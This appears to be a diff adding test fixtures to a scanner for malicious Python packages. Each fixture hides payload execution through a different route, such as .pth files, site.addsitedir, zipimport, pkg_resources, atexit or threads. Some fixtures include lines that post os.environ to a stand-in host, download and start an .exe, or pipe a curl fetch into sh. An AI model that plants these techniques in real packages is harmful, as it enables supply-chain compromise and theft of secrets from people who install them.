@@ -10,6 +10,7 @@ import zlib
 
 from scenario_kit import Scenario, sdist, wheel
 from theme_hidden import EVIL, PACKED, of
+from theme_shipped import HERE, SHELL, zipped
 
 
 def layered(source: bytes, depth: int) -> str:
@@ -172,4 +173,111 @@ SCENARIOS: list[Scenario] = [
         "inspect-src",
         f"import inspect,sys,base64\nexec(base64.b64decode(open(__file__).read().split('#!!')[1]))\n#!!{PACKED}\n",
     ),
+    wheel(
+        "pth-path-to-zip",
+        "look",
+        {"acme/__init__.py": "", "acme.pth": "acme/v.zip\nimport hidden\n", "acme/v.zip": zipped(hidden__DOT__py=EVIL)},
+    ),
+    of(
+        "path-attr-dir",
+        "import os\n__path__.append(os.path.join(os.path.dirname(__file__),'_x'))\nfrom acme import hidden\n",
+        **{"_x/hidden__DOT__py": EVIL},
+    ),
+    of(
+        "addsitedir",
+        HERE + "import site\nsite.addsitedir(HERE + '/s')\n",
+        **{"s/x__DOT__pth": "import os,requests; requests.post('https://collect.invalid/v1', json=dict(os.environ))\n"},
+    ),
+    of(
+        "addsitedir-mod",
+        HERE + "import site\nsite.addsitedir(HERE + '/s')\nimport hidden\n",
+        **{"s/hidden__DOT__py": EVIL},
+    ),
+    of("imp-load-source", HERE + "import imp\nimp.load_source('x',HERE + '/a.txt')\n", a__DOT__txt=EVIL),
+    of("execfile-py2", HERE + "execfile(HERE + '/a.txt')\n", a__DOT__txt=EVIL),
+    of(
+        "startfile",
+        HERE + "os.startfile(HERE + '/a.bat')\n",
+        a__DOT__bat="@echo off\ncurl -s http://203.0.113.5/x.exe -o %TEMP%\\x.exe\nstart /b %TEMP%\\x.exe\n",
+    ),
+    of("cwd-relative", HERE + "import subprocess\nsubprocess.Popen(['./run.sh'],cwd=HERE)\n", run__DOT__sh=SHELL),
+    of(
+        "cwd-py",
+        HERE + "import subprocess\nsubprocess.Popen([sys.executable,'t.py'],cwd=HERE)\n",
+        t__DOT__py="import os, requests\nif __name__=='__main__':\n    requests.post('https://collect.invalid/v1', json=dict(os.environ))\n",
+    ),
+    of(
+        "zipimporter-exec",
+        HERE
+        + "import zipimport,importlib.util\ni=zipimport.zipimporter(HERE + '/v.dat')\nc=i.get_code('hidden')\nexec(c)\n",
+        v__DOT__dat=zipped(hidden__DOT__py=EVIL),
+    ),
+    of(
+        "zipimporter-source",
+        HERE + "import zipimport\nexec(zipimport.zipimporter(HERE + '/v.dat').get_source('hidden'))\n",
+        v__DOT__dat=zipped(hidden__DOT__py=EVIL),
+    ),
+    of(
+        "zip-extract-run",
+        HERE
+        + "import zipfile,subprocess,tempfile\nd=tempfile.mkdtemp()\nzipfile.ZipFile(HERE + '/v.zip').extractall(d)\nsubprocess.Popen(['sh',os.path.join(d,'run.sh')])\n",
+        v__DOT__zip=zipped(run__DOT__sh=SHELL),
+    ),
+    of(
+        "zip-extract-py",
+        HERE
+        + "import zipfile,subprocess,tempfile\nd=tempfile.mkdtemp()\nwith zipfile.ZipFile(HERE + '/v.zip') as f:\n    f.extractall(d)\nsubprocess.Popen([sys.executable,os.path.join(d,'run.py')])\n",
+        v__DOT__zip=zipped(run__DOT__py=EVIL),
+    ),
+    wheel(
+        "data-scripts",
+        "look",
+        {"acme/__init__.py": "", "acme-1.2.0.data/scripts/acme-run": "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"},
+    ),
+    of(
+        "pkg-resources",
+        HERE + "import pkg_resources\nexec(pkg_resources.resource_string('acme','a.txt'))\n",
+        a__DOT__txt=EVIL,
+    ),
+    of(
+        "pkg-resources-file",
+        HERE
+        + "import pkg_resources,subprocess\nsubprocess.run(['sh',pkg_resources.resource_filename('acme','a.sh')])\n",
+        a__DOT__sh=SHELL,
+    ),
+    of(
+        "as-file",
+        "import subprocess\nfrom importlib.resources import files,as_file\nwith as_file(files('acme')/'a.sh') as p:\n    subprocess.run(['sh',str(p)])\n",
+        a__DOT__sh=SHELL,
+    ),
+    of(
+        "resources-path",
+        "import subprocess\nfrom importlib import resources\nwith resources.path('acme','a.sh') as p:\n    subprocess.run(['sh',p])\n",
+        a__DOT__sh=SHELL,
+    ),
+    of(
+        "spec-origin",
+        "import os,subprocess\np=os.path.dirname(__spec__.origin)+'/a.sh'\nsubprocess.run(['sh',p])\n",
+        a__DOT__sh=SHELL,
+    ),
+    of(
+        "thread-run",
+        HERE
+        + "import threading,subprocess\nthreading.Thread(target=subprocess.call,args=(['sh',HERE + '/a.sh'],)).start()\n",
+        a__DOT__sh=SHELL,
+    ),
+    of(
+        "atexit-run",
+        HERE + "import atexit,subprocess\natexit.register(subprocess.call,['sh',HERE + '/a.sh'])\n",
+        a__DOT__sh=SHELL,
+    ),
+    of("spawnl", HERE + "os.spawnl(os.P_NOWAIT,'/bin/sh','sh',HERE + '/a.sh')\n", a__DOT__sh=SHELL),
+    of(
+        "asyncio",
+        HERE
+        + "import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('sh',HERE + '/a.sh')\nasyncio.run(f())\n",
+        a__DOT__sh=SHELL,
+    ),
+    of("f-string", HERE + "os.system(f'sh {HERE}/a.sh &')\n", a__DOT__sh=SHELL),
+    of("chained-source", HERE + "os.system('. '+HERE + '/a.sh')\n", a__DOT__sh=SHELL),
 ]
